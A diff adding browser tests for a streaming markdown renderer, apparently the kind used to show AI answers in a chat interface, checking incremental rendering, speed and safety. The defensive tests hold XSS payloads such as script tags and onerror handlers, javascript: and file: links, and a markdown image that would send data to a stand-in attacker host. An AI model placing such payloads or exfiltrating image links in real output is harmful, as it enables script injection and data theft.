@@ -1,0 +1,242 @@
+import { expect } from '@esm-bundle/chai';
+import * as fc from 'fast-check';
+import { createCodeCard } from '../elements/code-card.ts';
+import { safeUrl } from '../elements/message-parts.ts';
+import { createPlainText } from '../elements/plain-text.ts';
+import { BLOCK_LIMIT, createMarkdownStream, TEXT_LIMIT, type MarkdownTools } from './markdown-stream.ts';
+import { ANSWERS, hostileTexts, PIECES } from './testing/corpus.ts';
+
+const LABELS = { copyLabel: 'Copy', codeLabel: 'code' };
+const TOOLS: MarkdownTools = {
+  allowImages: false,
+  createCodeCard: (language) => createCodeCard(language, LABELS),
+  createPlainText: (host) => createPlainText(host, LABELS),
+  safeUrl,
+  // Time stands still, so that each update is drawn.
+  clock: () => 0,
+};
+
+interface Drawn {
+  host: HTMLElement;
+  update(text: string, done?: boolean): void;
+}
+
+function open(tools: Partial<MarkdownTools> = {}): Drawn {
+  const host = document.createElement('div');
+  const { update } = createMarkdownStream(host, { ...TOOLS, ...tools });
+  return { host, update: (text, done = false) => update(text, done) };
+}
+
+function draw(...steps: string[]): HTMLElement {
+  const { host, update } = open();
+  for (const step of steps) update(step);
+  update(steps.at(-1) ?? '', true);
+  return host;
+}
+
+function letters(text: string): string {
+  return text.replaceAll(/[^\p{L}\p{N}]/gu, '');
+}
+
+function find(host: HTMLElement, selector: string): Element {
+  const found = host.querySelector(selector);
+  if (!found) throw new Error(`nothing is drawn as ${selector}`);
+  return found;
+}
+
+describe('markdown while it is written', () => {
+  afterEach(() => document.body.replaceChildren());
+
+  it('ends as it would if it had come at once, in whatever pieces an answer comes', () => {
+    for (const answer of ANSWERS) {
+      const whole = draw(answer).innerHTML;
+      for (const size of [1, 2, 3, 7, 50]) {
+        const steps = Array.from({ length: Math.ceil(answer.length / size) }, (_, at) => answer.slice(0, (at + 1) * size));
+        expect(draw(...steps).innerHTML).to.equal(whole);
+      }
+    }
+  });
+
+  it('ends as it would if it had come at once, whatever it is', () => {
+    const pieces = fc.array(fc.constantFrom(...PIECES), { maxLength: 60 });
+    fc.assert(
+      fc.property(pieces, fc.array(fc.nat({ max: 250 }), { maxLength: 20 }), (pieces, cuts) => {
+        const text = pieces.join('');
+        const steps = cuts.toSorted((a, b) => a - b).map((cut) => text.slice(0, cut));
+        expect(draw(...steps, text).innerHTML).to.equal(draw(text).innerHTML);
+      }),
+      { numRuns: 1500 },
+    );
+  });
+
+  it('loses no letter', () => {
+    const pieces = fc.array(fc.constantFrom('*', '**', '_', '` ', '\n', '\n\n', '- ', '> ', '# ', '| ', '~~ ', '[', '](', '\\(', '$', 'word', 'héé', '漢'), { maxLength: 60 });
+    fc.assert(
+      fc.property(pieces, (pieces) => {
+        const text = pieces.join('');
+        const host = draw(text);
+        for (const caption of host.querySelectorAll('figcaption')) caption.remove();
+        const addresses = [...host.querySelectorAll('a, img')].map((link) => link.getAttribute('href') ?? '').join('');
+        expect(letters(host.textContent + addresses).length).to.be.at.least(letters(text).length);
+      }),
+      { numRuns: 500 },
+    );
+  });
+
+  it('shows no marks that are only half there', () => {
+    const { host, update } = open();
+    const shown: string[] = [];
+    const text = 'A **bold** and `code` and [link](https://example.com/x).';
+    for (let length = 1; length <= text.length; length += 1) {
+      update(text.slice(0, length));
+      shown.push(host.textContent);
+    }
+    expect(shown.filter((text) => /[*`[\]()]|https/.test(text))).to.deep.equal([]);
+  });
+
+  it('shows a table when it is one, row by row', () => {
+    const { host, update } = open();
+    update('Before\n\n| a | b |');
+    expect(host.textContent).to.equal('Before');
+    update('Before\n\n| a | b |\n|---|--');
+    expect(host.textContent).to.equal('Before');
+    update('Before\n\n| a | b |\n|---|---|\n| 1 | 2 |\n| 3');
+    expect([...host.querySelectorAll('th, td')].map((cell) => cell.textContent)).to.deep.equal(['a', 'b', '1', '2']);
+  });
+
+  it('shows a block of code as one from its first mark on', () => {
+    const { host, update } = open();
+    update('```ja');
+    expect(find(host, 'figcaption span').textContent).to.equal('code');
+    update('```javascript\nlet a\n``');
+    expect(find(host, 'figcaption span').textContent).to.equal('javascript');
+    expect(find(host, 'pre code').textContent).to.equal('let a');
+  });
+
+  it('keeps what is selected, in a closed block and in the one being written', () => {
+    const { host, update } = open();
+    document.body.append(host);
+    const start = '- one **two** three\n- four';
+    update(start);
+    const node = find(host, 'strong').firstChild as Text;
+    getSelection()?.setBaseAndExtent(node, 0, node, 3);
+    const text = `${start} five\n\n- loose now\n\nEnd of it.\n\n\`\`\`js\nlet a\n\`\`\`\n`;
+    for (let length = start.length; length <= text.length; length += 1) update(text.slice(0, length));
+    update(text, true);
+    expect(find(host, 'strong').firstChild).to.equal(node);
+    expect(getSelection()?.toString()).to.equal('two');
+  });
+
+  it('touches as little for a chunk late in an answer as for an early one', () => {
+    const { host, update } = open();
+    const observer = new MutationObserver(() => undefined);
+    observer.observe(host, { childList: true, characterData: true, attributes: true, subtree: true });
+    const changes: number[] = [];
+    let text = '';
+    for (let chunk = 0; chunk < 1000; chunk += 1) {
+      text += chunk % 40 === 39 ? 'end.\n\n' : 'some **bold** `code` ';
+      update(text);
+      changes.push(observer.takeRecords().length);
+    }
+    const most = (from: number): number => Math.max(...changes.slice(from, from + 200));
+    expect(most(800)).to.be.at.most(most(0) + 2);
+  });
+
+  it('draws links whose definition comes last', () => {
+    expect(find(draw('See [a].', 'See [a].\n\nMore.\n\n', 'See [a].\n\nMore.\n\n[a]: https://a.example/'), 'a').getAttribute('href')).to.equal('https://a.example/');
+  });
+
+  it('draws anew when the text is another one', () => {
+    const { host, update } = open();
+    update('The *first* attempt\n\nand more');
+    update('The second');
+    expect(host.innerHTML).to.equal('<p>The second</p>');
+  });
+
+  it('rests four times as long as it has worked', async () => {
+    let now = 0;
+    const { host, update } = open({ clock: () => (now += 5) });
+    update('one');
+    update('one two');
+    expect(host.textContent).to.equal('one');
+    await new Promise((resolve) => setTimeout(resolve, 60));
+    expect(host.textContent).to.equal('one two');
+  });
+});
+
+describe('markdown that means harm', () => {
+  afterEach(() => document.body.replaceChildren());
+
+  it('has links to the web and to mail only, and they tell the other side nothing', () => {
+    const host = draw(
+      ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java\tscript:x', '&#106;avascript:x', 'data:text/html,x', 'vbscript:x', 'file:///etc', 'blob:x', '/relative', '//host', 'https://ok.example']
+        .map((url) => `[a](<${url}>) <${url}> [b][${url}]\n\n[${url}]: <${url}>`)
+        .join('\n\n'),
+    );
+    const links = [...host.querySelectorAll('a')];
+    expect(links.length).to.be.greaterThan(3);
+    for (const link of links) {
+      if (!link.hasAttribute('href')) continue;
+      expect(link.href).to.match(/^(https?:|mailto:)/);
+      expect([link.rel, link.target]).to.deep.equal(['noopener noreferrer nofollow', '_blank']);
+    }
+    expect([...host.querySelectorAll('[href]')].every((link) => link.getAttribute('href')?.startsWith('https://ok.example'))).to.equal(true);
+  });
+
+  it('makes no elements of markup', () => {
+    const host = draw('<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> <svg onload=alert(1)>\n\n<iframe src="https://x.example"></iframe>');
+    expect(host.querySelector('script, img, svg, iframe')).to.equal(null);
+    expect(host.textContent).to.contain('<img src=x onerror=alert(1)>');
+  });
+
+  it('fetches no images, whole or half written, and links to them', () => {
+    const { host, update } = open();
+    document.body.append(host);
+    const text = '![secret](https://attacker.invalid/x.png?data=1) and ![ref][r]\n\n[r]: https://attacker.invalid/y.png';
+    for (let length = 1; length <= text.length; length += 1) {
+      update(text.slice(0, length));
+      expect(host.querySelector('img')).to.equal(null);
+    }
+    update(text, true);
+    expect(host.querySelector('img')).to.equal(null);
+    expect([...host.querySelectorAll('a')].map((link) => [link.textContent, link.href])).to.deep.equal([
+      ['secret', 'https://attacker.invalid/x.png?data=1'],
+      ['ref', 'https://attacker.invalid/y.png'],
+    ]);
+    expect(performance.getEntriesByType('resource').filter(({ name }) => name.includes('attacker'))).to.deep.equal([]);
+  });
+
+  it('shows images where the page allows them, from the web alone', () => {
+    const { host, update } = open({ allowImages: true });
+    update(`![a](${location.origin}/none.png "title") ![b](mailto:x@y.example) ![c](data:image/svg+xml,x)`, true);
+    const images = [...host.querySelectorAll('img')];
+    expect(images.map(({ alt, referrerPolicy, title }) => [alt, referrerPolicy, title])).to.deep.equal([['a', 'no-referrer', 'title']]);
+  });
+
+  const size = 64 * 1024;
+  for (const [name, text] of Object.entries(hostileTexts(size))) {
+    it(`is drawn in bounded time: ${name}`, () => {
+      const start = performance.now();
+      const { host, update } = open();
+      for (const share of [0.25, 0.5, 0.75, 1]) update(text.slice(0, size * share));
+      update(text, true);
+      expect(performance.now() - start).to.be.below(4000);
+      if (/^"(?:word|- - a|> > > a|\*a_)/.test(name)) expect(letters(host.textContent).length).to.equal(letters(text).length);
+    });
+  }
+
+  it('is plain from a block on that is too long, and from the bound on', () => {
+    const long = `**before**\n\n${'word '.repeat(BLOCK_LIMIT / 5 + 1)}**a**\n\n**after**`;
+    const host = draw(long.slice(0, 1000), long.slice(0, BLOCK_LIMIT + 20), long);
+    expect(host.innerHTML === draw(long).innerHTML).to.equal(true);
+    expect([...host.querySelectorAll('strong')].map((bold) => bold.textContent)).to.deep.equal(['before']);
+    expect(host.textContent).to.contain('**a**');
+
+    const many = '**word** and\n\n'.repeat(TEXT_LIMIT / 14 + 100);
+    const steps = Array.from({ length: 10 }, (_, at) => many.slice(0, (many.length / 10) * (at + 1)));
+    const drawn = draw(...steps);
+    expect(drawn.innerHTML === draw(many).innerHTML).to.equal(true);
+    expect(letters(drawn.textContent).length).to.equal(letters(many).length);
+    expect(drawn.querySelectorAll('strong').length).to.be.within(TEXT_LIMIT / 14 - 10, TEXT_LIMIT / 14);
+  });
+});
